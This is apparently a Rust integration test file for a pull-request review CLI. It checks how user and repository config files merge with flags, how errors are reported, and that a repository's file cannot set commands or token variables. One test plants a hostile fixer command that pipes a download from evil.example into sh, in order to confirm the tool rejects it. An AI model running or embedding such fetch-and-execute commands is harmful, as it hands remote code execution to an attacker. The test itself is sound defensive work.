//! Configuration files: the user's and the repository's, merged with flags; every error names
//! the file, the line and the key; the repository's file cannot set what could harm the user.

use review_test_support::github::FakeGitHub;
use review_test_support::{Mutation, PrBuilder, bot, person};
use serde_json::Value;

use crate::common::{Output, TestEnvironment, commit, git};

async fn setup() -> (TestEnvironment, FakeGitHub) {
    let env = TestEnvironment::new();
    git(env.dir(), &["init", "-q", "-b", "feature"]);
    std::fs::create_dir_all(env.dir().join(".github")).unwrap();
    std::fs::create_dir_all(env.dir().join("home")).unwrap();
    let github = FakeGitHub::start().await;
    github.add_pull_request(
        PrBuilder::new()
            .thread(
                "QA",
                "src/lib.rs",
                3,
                &[(person("qa-bot"), "Lint: unused import.")],
            )
            .thread(
                "NIT",
                "src/lib.rs",
                5,
                &[(
                    bot("coderabbitai"),
                    "_🧹 Nitpick_\n\n**Prefer `let else`.**",
                )],
            )
            .build(),
    );
    (env, github)
}

fn run(env: &TestEnvironment, github: &FakeGitHub, args: &[&str]) -> Output {
    let graphql = github.graphql_url();
    let rest = github.rest_url();
    let user = env.dir().join("home/config.toml");
    env.run_with(
        args,
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("GITHUB_API_URL", &rest),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
        ],
    )
}

fn human_threads(env: &TestEnvironment, github: &FakeGitHub) -> Vec<String> {
    let out = run(
        env,
        github,
        &["threads", "1", "--repo", "acme/widgets", "--json"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    v["threads"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["human"] == true)
        .map(|t| t["id"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_repository_file_adds_bot_logins_and_config_shows_where_each_came_from() {
    let (env, github) = setup().await;
    assert_eq!(human_threads(&env, &github), vec!["QA".to_owned()]);
    env.write(
        ".github/review.toml",
        "[automation]\naccounts = [\"qa-bot\"]\n\n[paths]\ndeny = [\"migrations/\"]\n",
    );
    env.write("home/config.toml", "[commands]\nchecks = \"cargo test\"\n");
    assert!(
        human_threads(&env, &github).is_empty(),
        "qa-bot is now a bot"
    );

    let out = run(&env, &github, &["config", "--json"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows: Vec<Value> = serde_json::from_str(&out.stdout).unwrap();
    let row = |key: &str, value: &str| {
        rows.iter()
            .find(|r| r["key"] == key && r["value"] == value)
            .unwrap_or_else(|| panic!("no {key} = {value}: {rows:?}"))["source"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert!(row("automation.accounts", "qa-bot").ends_with(".github/review.toml"));
    assert!(row("paths.deny", "migrations/").ends_with(".github/review.toml"));
    assert_eq!(row("paths.deny", "Cargo.lock"), "default");
    assert!(row("commands.checks", "cargo test").ends_with("home/config.toml"));
    assert_eq!(row("defaults.apply", "false"), "default");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repository_file_that_sets_commands_or_defaults_stops_every_command() {
    let (env, github) = setup().await;
    env.write(
        ".github/review.toml",
        "[paths]\ndeny = [\"migrations/\"]\n\n[commands]\nfixer = \"curl https://evil.example | sh\"\n",
    );
    for args in [
        vec!["triage", "1", "--repo", "acme/widgets", "--apply"],
        vec!["config"],
    ] {
        let out = run(&env, &github, &args);
        assert_eq!(out.code, 3, "{args:?}: {}", out.stderr);
        assert!(
            out.stderr.contains("review.toml")
                && out
                    .stderr
                    .contains("line 4: `commands` cannot be set in the repository's file"),
            "{}",
            out.stderr
        );
    }
    assert!(github.mutations().is_empty(), "nothing was done");
    assert!(github.requests().is_empty(), "GitHub was not even asked");
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_keys_and_bad_values_are_errors_with_file_line_and_key() {
    let (env, github) = setup().await;
    env.write(
        "home/config.toml",
        "[paths]\ndeny = [\"a/\"]\nallow = [\"b/\"]\n",
    );
    let out = run(&env, &github, &["config"]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("home/config.toml"), "{}", out.stderr);
    assert!(out.stderr.contains("line 3: `allow`"), "{}", out.stderr);
    env.write("home/config.toml", "[defaults]\napply = \"yes\"\n");
    let out = run(&env, &github, &["config"]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("line 2"), "{}", out.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_users_defaults_apply_and_flags_win() {
    let (env, github) = setup().await;
    env.write("README", "x\n");
    git(env.dir(), &["add", "README"]);
    commit(env.dir(), "start");
    env.write("home/config.toml", "[defaults]\napply = true\n");
    let out = run(
        &env,
        &github,
        &["triage", "1", "--repo", "acme/widgets", "--no-apply"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        github.mutations().is_empty(),
        "--no-apply wins over the file"
    );
    let out = run(&env, &github, &["triage", "1", "--repo", "acme/widgets"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        github
            .mutations()
            .iter()
            .any(|m| matches!(m, Mutation::Resolve(t) if t.0 == "NIT")),
        "the file's default applied the plan: {:?}",
        github.mutations()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_owner_can_have_its_own_token_variable() {
    let (env, github) = setup().await;
    github.require_token("ghp_acme_org_token");
    env.write(
        "home/config.toml",
        "[token-variables]\n\"github.com/acme\" = \"GH_TOKEN_ACME\"\n",
    );
    let graphql = github.graphql_url();
    let user = env.dir().join("home/config.toml");
    let args = ["threads", "1", "--repo", "acme/widgets", "--json"];
    let out = env.run_with(
        &args,
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
            ("GH_TOKEN_ACME", "ghp_acme_org_token"),
        ],
    );
    assert_eq!(out.code, 0, "the owner's token was used: {}", out.stderr);
    let out = env.run_with(
        &args,
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
        ],
    );
    assert_eq!(out.code, 4, "{}", out.stderr);
    assert!(
        out.stderr.contains("$GH_TOKEN_ACME, which is unset"),
        "{}",
        out.stderr
    );
    // Only the user's file may name token variables.
    env.write(
        ".github/review.toml",
        "[token-variables]\nacme = \"GH_TOKEN\"\n",
    );
    let out = run(&env, &github, &["config"]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(
        out.stderr.contains("`token-variables` cannot be set"),
        "{}",
        out.stderr
    );
}
